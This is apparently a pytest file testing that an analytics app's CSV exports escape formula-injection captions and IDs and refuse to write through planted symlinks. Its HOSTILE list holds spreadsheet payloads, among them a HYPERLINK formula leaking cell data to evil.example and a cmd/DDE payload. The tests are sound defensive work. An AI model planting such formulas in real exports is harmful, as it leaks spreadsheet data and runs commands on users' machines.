"""CSV exports a spreadsheet opens safely, written without following a planted symlink."""

from __future__ import annotations

import csv
import os
from collections.abc import Iterator
from datetime import timedelta
from pathlib import Path

import pytest

from s200desk.services.analytics import (
    export_snapshots_csv,
    export_top_posts_csv,
    snapshots_csv_text,
    top_posts,
)
from s200desk.store.analytics_repo import Snapshot

from .samples import T0, post, snap

HOSTILE = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def read_rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


@pytest.mark.parametrize("caption", HOSTILE)
def test_a_caption_that_starts_a_formula_is_kept_as_text(caption: str, tmp_path: Path) -> None:
    latest = snap("p1", "tiktok", "@one", T0 + timedelta(hours=3), 100, 5)
    rows = top_posts([post("p1", "tiktok", "@one", T0, latest, caption=caption)], "views")
    target = tmp_path / "top.csv"
    assert export_top_posts_csv(rows, target) == 1
    cell = read_rows(target)[0]["caption"]
    assert cell == "'" + caption  # a spreadsheet shows text, runs nothing, and nothing is lost
    assert read_rows(target)[0]["views"] == "100"


def test_ids_from_the_server_are_escaped_too_and_numbers_are_not(tmp_path: Path) -> None:
    snapshots = [snap("=1+1", "tiktok", "@handle", T0, 7, 1)]
    target = tmp_path / "snapshots.csv"
    export_snapshots_csv(snapshots, target)
    row = read_rows(target)[0]
    assert (row["post_id"], row["account_id"], row["views"]) == ("'=1+1", "'@handle", "7")
    copied = next(csv.DictReader(snapshots_csv_text(snapshots).splitlines()))
    assert copied["post_id"] == "'=1+1"


def test_plain_text_is_written_unchanged(tmp_path: Path) -> None:
    caption = "Morning light, 50% off = a deal; email a@b.c"
    latest = snap("p1", "tiktok", "tiktok-one", T0 + timedelta(hours=3), 1)
    rows = top_posts([post("p1", "tiktok", "tiktok-one", T0, latest, caption=caption)], "views")
    target = tmp_path / "top.csv"
    export_top_posts_csv(rows, target)
    assert read_rows(target)[0]["caption"] == caption


@pytest.mark.skipif(not hasattr(os, "symlink"), reason="needs symlinks")
def test_a_planted_part_symlink_is_never_written_through(tmp_path: Path) -> None:
    tmp_path = tmp_path / "exports"
    tmp_path.mkdir()
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me", encoding="utf-8")
    target = tmp_path / "out.csv"
    (tmp_path / "out.csv.part").symlink_to(victim)  # where the old temp file went
    (tmp_path / ".out.csv.part").symlink_to(victim)
    assert export_snapshots_csv([snap("p1", "tiktok", "@one", T0, 3)], target) == 1
    assert victim.read_text(encoding="utf-8") == "keep me"
    assert read_rows(target)[0]["views"] == "3"
    assert not target.is_symlink()
    leftovers = sorted(p.name for p in tmp_path.iterdir())
    assert leftovers == [".out.csv.part", "out.csv", "out.csv.part", "victim.txt"]


def test_a_failed_export_leaves_no_file_behind(tmp_path: Path) -> None:
    def rows_then_crash() -> Iterator[Snapshot]:  # the store failing halfway through
        yield snap("p1", "tiktok", "@one", T0, 3)
        raise OSError("disk went away")

    tmp_path = tmp_path / "exports"
    tmp_path.mkdir()
    target = tmp_path / "out.csv"
    with pytest.raises(OSError, match="disk went away"):
        export_snapshots_csv(rows_then_crash(), target)
    assert list(tmp_path.iterdir()) == []
